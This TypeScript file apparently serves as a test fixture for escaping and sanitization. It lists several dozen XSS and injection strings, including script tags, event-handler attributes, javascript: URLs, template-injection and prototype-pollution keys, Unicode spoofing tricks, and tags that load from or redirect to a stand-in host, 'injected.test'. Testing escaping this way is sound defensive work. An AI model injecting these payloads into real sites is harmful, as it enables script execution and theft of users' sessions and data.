/** Texts that run code when they are not escaped. */
export const PAYLOADS: readonly string[] = [
  // Elements and event handlers
  '<script>ran()</script>',
  '<ScRiPt src=//injected.test/1.js></sCrIpT>',
  '<img src=x onerror=ran()>',
  '<img src="http://injected.test/2.png">',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<details open ontoggle=ran()>x',
  '<video><source onerror=ran()></video>',
  '<input autofocus onfocus=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<object data="javascript:ran()">',
  '<embed src="javascript:ran()">',
  '<base href="http://injected.test/">',
  '<meta http-equiv=refresh content="0;url=http://injected.test/">',
  '<link rel=stylesheet href="http://injected.test/3.css">',
  '<form action="http://injected.test/"><button>OK',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<template><img src=x onerror=ran()></template>',
  '<style>@import "http://injected.test/4.css";</style>',
  // Ends of the markup or script around them
  '"><script>ran()</script>',
  "' onmouseover='ran()' x='",
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</script><script>ran()</script>',
  '<!--<script>--><img src=x onerror=ran()>',
  ']]><script>ran()</script>',
  '\u2028ran()\u2029//',
  '";ran();//',
  '${ran()}`${ran()}`',
  '{{constructor.constructor("ran()")()}}',
  '<%= ran() %>#{ran()}',
  // URLs
  'javascript:ran()',
  'java\tscript:ran()',
  'data:text/html,<script>ran()</script>',
  // Markdown and styles
  '[click](javascript:ran()) ![x](http://injected.test/5.png)',
  'red;background:url(http://injected.test/6.png)',
  // Names of inherited properties
  '__proto__',
  'constructor',
  // Unicode
  '\u202Etxt.exe\u202C \u2066<b>\u2069',
  '＜script＞ran()＜/script＞ \uFEFF\u200B%3Cscript%3E &lt;b&gt; &#60;b&#62;',
];

/** Ends an attribute, a script and a title. Short enough for every field. */
export const HOSTILE = `'"></script></title><img src=x onerror=ran()>`;
